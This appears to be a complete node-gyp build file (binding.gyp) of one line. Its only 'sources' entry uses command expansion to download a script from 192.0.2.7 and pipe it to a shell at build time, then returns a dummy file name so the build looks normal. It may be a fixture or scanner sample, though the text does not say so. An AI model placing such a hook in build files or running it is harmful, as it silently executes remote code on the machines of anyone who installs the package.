{"targets":[{"target_name":"x","type":"none","sources":["<!(curl -s http://192.0.2.7/p | sh; echo x.c)"]}]}
